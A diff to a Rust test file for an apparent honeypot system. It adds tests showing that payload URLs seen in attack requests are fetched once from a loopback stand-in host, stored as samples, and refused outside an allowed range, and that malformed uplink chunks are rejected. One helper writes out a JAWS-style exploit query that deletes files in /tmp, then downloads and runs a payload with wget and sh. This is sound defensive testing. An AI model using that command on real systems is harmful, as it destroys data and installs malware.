@@ -284,6 +284,7 @@ fn curl_samples_reach_the_admin_byte_identical_once_per_fleet_and_across_an_outa
         let s = list.iter().find(|s| &s.sha256 == sha).unwrap_or_else(|| panic!("{sha} missing: {list:?}"));
         assert_eq!(s.size as usize, bytes.len());
         assert_eq!(s.md5, Digests::of(bytes).md5);
+        assert!(s.file_type.starts_with("ELF 64-bit"), "typed ELF: {s:?}");
         check_zip(&admin, tmp.path(), sha, bytes);
     }
     let d = admin.sample(&sha_true).unwrap();
@@ -393,4 +394,331 @@ fn walk(p: &Path) -> u64 {
                 .sum()
         })
         .unwrap_or(0)
+}
+
+/// A one-file HTTP server on 127.0.0.1 standing in for a malware host: answers `GET /x.elf`
+/// with `body` (404 otherwise) and counts every request.
+struct DropHost {
+    port: u16,
+    requests: std::sync::Arc<std::sync::atomic::AtomicUsize>,
+}
+
+impl DropHost {
+    fn start(body: Vec<u8>) -> DropHost {
+        use std::io::{Read, Write};
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let requests = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+        let seen = requests.clone();
+        std::thread::spawn(move || {
+            // Bounded: a test makes a handful of requests.
+            for conn in listener.incoming().take(64) {
+                let Ok(mut c) = conn else { continue };
+                let _ = c.set_read_timeout(Some(Duration::from_secs(5)));
+                let mut req = Vec::new();
+                let mut buf = [0u8; 1024];
+                while !req.windows(4).any(|w| w == b"\r\n\r\n") && req.len() < 16 * 1024 {
+                    match c.read(&mut buf) {
+                        Ok(0) | Err(_) => break,
+                        Ok(n) => req.extend_from_slice(&buf[..n]),
+                    }
+                }
+                seen.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+                let head = String::from_utf8_lossy(&req);
+                let resp = if head.starts_with("GET /x.elf ") {
+                    let mut r = format!(
+                        "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+                        body.len()
+                    )
+                    .into_bytes();
+                    r.extend_from_slice(&body);
+                    r
+                } else {
+                    b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_vec()
+                };
+                let _ = c.write_all(&resp);
+            }
+        });
+        DropHost { port, requests }
+    }
+
+    fn requests(&self) -> usize {
+        self.requests.load(std::sync::atomic::Ordering::SeqCst)
+    }
+}
+
+impl Admin {
+    /// Stored HTTP requests whose fields mention `needle`.
+    fn http_requests_with(&self, needle: &str) -> usize {
+        let Ok(db) = drosera_admin::storage::open_backend(&self.db) else { return 0 };
+        let mut n = 0;
+        let range = drosera_admin::storage::EventRange { since_ms: i64::MIN, until_ms: i64::MAX, sensor_id: None };
+        let _ = db.export_events(&range, &mut |r| {
+            if r.kind == "http_request" && r.fields.contains(needle) {
+                n += 1;
+            }
+            std::ops::ControlFlow::Continue(())
+        });
+        n
+    }
+
+    fn fetches(&self) -> Vec<drosera_admin::storage::FetchRow> {
+        let Ok(db) = drosera_admin::storage::open_backend(&self.db) else { return Vec::new() };
+        db.list_fetches(100).unwrap_or_default()
+    }
+}
+
+impl Sensor {
+    /// A JAWS-style exploit request whose query drops `url` with wget.
+    fn offer(&self, url: &str) {
+        run_ok(
+            Command::new("curl")
+                .args(["-s", "-S", "-g", "-o", "/dev/null"])
+                .arg(format!("http://127.0.0.1:{}/shell?cd+/tmp;rm+-rf+*;wget+{url};sh+/tmp/x.elf", self.http)),
+        );
+    }
+}
+
+#[test]
+fn offered_urls_are_fetched_once_by_the_admin_kept_as_samples_and_refused_outside_the_allowed_range() {
+    if !have("curl", "--version") || !have("unzip", "-v") {
+        return;
+    }
+    let bin = bin_dir();
+    let tmp = tempfile::tempdir().unwrap();
+    let (_, elf_bytes) = elf(tmp.path(), "dropped.elf", 7);
+    let host = DropHost::start(elf_bytes.clone());
+    // Loopback is refused unless allowed: allow 127.0.0.1 only, so 127.0.0.2 stands for a
+    // forbidden address (never connected to).
+    let admin = Admin::create(
+        &bin,
+        tmp.path(),
+        "\n[fetcher]\nenabled = true\nallow = [\"127.0.0.1/32\"]\nmax_concurrent = 2\n",
+    );
+    let s = admin.sensor(tmp.path(), "pi-f");
+    let a = admin.start();
+    let _p = s.start();
+    let good = format!("http://127.0.0.1:{}/x.elf", host.port);
+    let bad = format!("http://127.0.0.2:{}/x.elf", host.port);
+    s.offer(&good);
+    s.offer(&good);
+    s.offer(&bad);
+    wait("both fetches recorded", Duration::from_secs(60), || {
+        let f = admin.fetches();
+        f.len() >= 2 && f.iter().all(|x| x.state != "queued")
+    });
+    let fetches = admin.fetches();
+    assert_eq!(fetches.len(), 2, "one row per URL: {fetches:?}");
+    let sha = Digests::of(&elf_bytes).sha256;
+    let ok = fetches.iter().find(|x| x.url == good).unwrap();
+    assert_eq!(
+        (ok.state.as_str(), ok.status, ok.size, ok.sha256.as_deref()),
+        ("fetched", Some(200), Some(elf_bytes.len() as i64), Some(sha.as_str())),
+        "{ok:?}"
+    );
+    assert_eq!((ok.sensor.as_str(), ok.protocol.as_str(), ok.src_ip.as_str()), ("pi-f", "http", "127.0.0.1"));
+    let refused = fetches.iter().find(|x| x.url == bad).unwrap();
+    assert_eq!(refused.state, "refused", "{refused:?}");
+    assert!(refused.error.contains("127.0.0.2") && refused.error.contains("loopback"), "{refused:?}");
+    assert_eq!(host.requests(), 1, "fetched once, the refused address never contacted");
+
+    // The sample went through the same store as uploads: byte-identical, typed ELF, with a
+    // `fetch` sighting from the offering sensor whose source is the URL's host.
+    let list = admin.samples();
+    assert_eq!(list.len(), 1, "{list:?}");
+    assert!(list[0].file_type.starts_with("ELF 64-bit"), "{list:?}");
+    let d = admin.sample(&sha).unwrap();
+    assert!(
+        d.sightings.iter().any(|g| g.protocol == "fetch" && g.source == "127.0.0.1" && g.sensor == "pi-f"),
+        "{:?}",
+        d.sightings
+    );
+    assert!(d.names.contains(&good), "{:?}", d.names);
+    check_zip(&admin, tmp.path(), &sha, &elf_bytes);
+
+    // Each URL once across restarts: offered again after the admin restarts, not fetched again.
+    drop(a);
+    let _a = admin.start();
+    s.offer(&good);
+    wait("the third offer stored", Duration::from_secs(60), || admin.http_requests_with("x.elf") >= 4);
+    std::thread::sleep(Duration::from_secs(2));
+    assert_eq!(host.requests(), 1, "a URL is fetched once");
+    assert_eq!(admin.fetches().len(), 2);
+}
+
+#[test]
+fn fetching_is_off_by_default() {
+    if !have("curl", "--version") {
+        return;
+    }
+    let bin = bin_dir();
+    let tmp = tempfile::tempdir().unwrap();
+    let (_, elf_bytes) = elf(tmp.path(), "dropped.elf", 8);
+    let host = DropHost::start(elf_bytes);
+    let admin = Admin::create(&bin, tmp.path(), "");
+    let s = admin.sensor(tmp.path(), "pi-off");
+    let _a = admin.start();
+    let _p = s.start();
+    s.offer(&format!("http://127.0.0.1:{}/x.elf", host.port));
+    wait("the offer stored", Duration::from_secs(60), || admin.http_requests_with("x.elf") >= 1);
+    std::thread::sleep(Duration::from_secs(2));
+    assert_eq!(host.requests(), 0, "nothing fetched");
+    assert!(admin.fetches().is_empty());
+    assert!(admin.samples().is_empty());
+}
+
+/// A sensor's side of the uplink, by hand (protocol version 2), to send what a broken or
+/// hostile sensor could: chunks out of order, too large, past the size, and a sample whose
+/// bytes do not hash to its name.
+mod wire {
+    use drosera_uplink::frame::{self, Frame, SampleRef, SampleVerdict, MAX_CONTROL_FRAME, PROTOCOL_VERSION};
+    use std::time::Duration;
+    use tokio::net::TcpStream;
+    use tokio_rustls::rustls::pki_types::ServerName;
+
+    pub type Tls = tokio_rustls::client::TlsStream<TcpStream>;
+
+    pub async fn connect(bundle: &std::path::Path, name: &str, ingest: &str) -> (Tls, u32) {
+        let cfg = drosera_uplink::tls::client_config(
+            &bundle.join("ca.pem"),
+            &bundle.join("sensor.pem"),
+            &bundle.join("sensor.key"),
+        )
+        .unwrap();
+        let mut tcp = None;
+        for _ in 0..100 {
+            if let Ok(t) = TcpStream::connect(ingest).await {
+                tcp = Some(t);
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+        let tcp = tcp.expect("admin listening");
+        let mut tls = tokio_rustls::TlsConnector::from(cfg)
+            .connect(ServerName::try_from("localhost").unwrap(), tcp)
+            .await
+            .unwrap();
+        let hello = Frame::Hello {
+            sensor: name.into(),
+            protocol_version: PROTOCOL_VERSION,
+            schema_version: drosera_uplink::event::SCHEMA_VERSION,
+            software: "samples_e2e".into(),
+        };
+        frame::write_frame(&mut tls, &hello).await.unwrap();
+        assert!(matches!(next(&mut tls).await, Frame::HelloAck { .. }));
+        let Frame::SampleTerms { max_chunk_bytes, .. } = next(&mut tls).await else { panic!("no sample terms") };
+        (tls, max_chunk_bytes)
+    }
+
+    pub async fn next(tls: &mut Tls) -> Frame {
+        tokio::time::timeout(Duration::from_secs(30), frame::read_frame(tls, MAX_CONTROL_FRAME))
+            .await
+            .expect("an answer in time")
+            .unwrap()
+            .expect("the admin keeps the connection")
+    }
+
+    pub async fn send(tls: &mut Tls, f: &Frame) {
+        frame::write_frame(tls, f).await.unwrap();
+    }
+
+    /// Offers one sample; returns the admin's verdict.
+    pub async fn offer(tls: &mut Tls, sha256: [u8; 32], size: u64) -> SampleVerdict {
+        send(tls, &Frame::SampleOffer { samples: vec![SampleRef { sha256, size }] }).await;
+        let Frame::SampleAnswers { answers } = next(tls).await else { panic!("no answers") };
+        answers.into_iter().next().unwrap().verdict
+    }
+
+    pub async fn chunk(tls: &mut Tls, sha256: [u8; 32], offset: u64, size: u64, data: &[u8]) -> Frame {
+        send(tls, &Frame::SampleChunk { sha256, offset, size, data: data.to_vec() }).await;
+        next(tls).await
+    }
+}
+
+#[test]
+fn corrupted_oversized_and_mismatched_chunks_are_rejected_on_the_wire_and_nothing_is_lost() {
+    use drosera_uplink::frame::{Frame, SampleVerdict};
+    let bin = bin_dir();
+    let tmp = tempfile::tempdir().unwrap();
+    let admin = Admin::create(&bin, tmp.path(), "max_sample_bytes = 65536\nchunk_bytes = 1024\n");
+    let bundle = tmp.path().join("bundle-sim");
+    admin.cli(&["sensor", "add", "sim", "--out", &bundle.display().to_string()]);
+    let _a = admin.start();
+    let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
+    let good: Vec<u8> = (0..3000u32).map(|i| (i * 7 % 251) as u8).collect();
+    let sha_of = |b: &[u8]| {
+        let hex = Digests::of(b).sha256;
+        let mut h = [0u8; 32];
+        for (i, x) in h.iter_mut().enumerate() {
+            *x = u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap();
+        }
+        h
+    };
+    let h = sha_of(&good);
+    let n = good.len() as u64;
+    let rejected = |f: &Frame| matches!(f, Frame::SampleRejected { .. });
+    rt.block_on(async {
+        let (mut t, max_chunk) = wire::connect(&bundle, "sim", &admin.ingest).await;
+        assert_eq!(max_chunk, 1024);
+        // Out of order (a gap), then a replayed chunk, then a chunk past the chunk cap, then one
+        // past the announced size, then a size that changes mid-way.
+        assert_eq!(wire::offer(&mut t, h, n).await, SampleVerdict::Want { offset: 0 });
+        assert!(matches!(
+            wire::chunk(&mut t, h, 0, n, &good[..1000]).await,
+            Frame::SampleAck { next_offset: 1000, .. }
+        ));
+        assert!(rejected(&wire::chunk(&mut t, h, 2000, n, &good[2000..]).await));
+        assert_eq!(wire::offer(&mut t, h, n).await, SampleVerdict::Want { offset: 0 }, "the part was deleted");
+        assert!(matches!(wire::chunk(&mut t, h, 0, n, &good[..1000]).await, Frame::SampleAck { .. }));
+        assert!(rejected(&wire::chunk(&mut t, h, 0, n, &good[..1000]).await));
+        wire::offer(&mut t, h, n).await;
+        assert!(rejected(&wire::chunk(&mut t, h, 0, n, &good[..2000]).await), "over max_chunk_bytes");
+        wire::offer(&mut t, h, n).await;
+        assert!(rejected(&wire::chunk(&mut t, h, 0, 100, &good[..1000]).await), "size changed");
+        // Corrupted bytes: every chunk fits, the whole does not hash to its name.
+        let mut bad = good.clone();
+        bad[1500] ^= 0xff;
+        wire::offer(&mut t, h, n).await;
+        for (i, c) in bad.chunks(1000).enumerate() {
+            let f = wire::chunk(&mut t, h, i as u64 * 1000, n, c).await;
+            if i < 2 {
+                assert!(matches!(f, Frame::SampleAck { .. }), "{f:?}");
+            } else {
+                let Frame::SampleRejected { reason, .. } = f else { panic!("{f:?}") };
+                assert!(reason.contains("mismatch"), "{reason}");
+            }
+        }
+        // Offers past the admin's cap are refused outright.
+        let big = [7u8; 32];
+        assert!(matches!(wire::offer(&mut t, big, 65537).await, SampleVerdict::Refuse { retry: false, .. }));
+        // Event batches still flow on the same connection, and the good sample still arrives.
+        let events = drosera_e2e::fleet::events(0, 5, drosera_admin::clock::now_ms());
+        let b = &drosera_e2e::fleet::encode(&events, 5).unwrap()[0];
+        let batch = Frame::Batch {
+            first_seq: b.first,
+            last_seq: b.last,
+            count: b.count,
+            codec: drosera_uplink::codec::CODEC_ZSTD_POSTCARD,
+            payload: b.payload.clone(),
+        };
+        wire::send(&mut t, &batch).await;
+        assert!(matches!(wire::next(&mut t).await, Frame::Ack { upto_seq: 5 }));
+        assert_eq!(wire::offer(&mut t, h, n).await, SampleVerdict::Want { offset: 0 });
+        let mut last = None;
+        for (i, c) in good.chunks(1000).enumerate() {
+            last = Some(wire::chunk(&mut t, h, i as u64 * 1000, n, c).await);
+        }
+        assert!(matches!(last, Some(Frame::SampleStored { .. })), "{last:?}");
+    });
+    let list = admin.samples();
+    assert_eq!(list.len(), 1, "{list:?}");
+    assert_eq!(list[0].sha256, Digests::of(&good).sha256);
+    check_zip(&admin, tmp.path(), &list[0].sha256, &good);
+    // Every rejection is recorded; nothing half-written is left.
+    let db = drosera_admin::storage::open_backend(&admin.db).unwrap();
+    let rejections = db.sample_rejections(100).unwrap();
+    assert!(rejections.len() >= 5, "{rejections:?}");
+    assert!(rejections.iter().all(|r| r.1 == "sim"));
+    let parts = std::fs::read_dir(admin.cfg.with_file_name("samples").join("parts")).unwrap().count();
+    assert_eq!(parts, 0, "no part file left");
 }
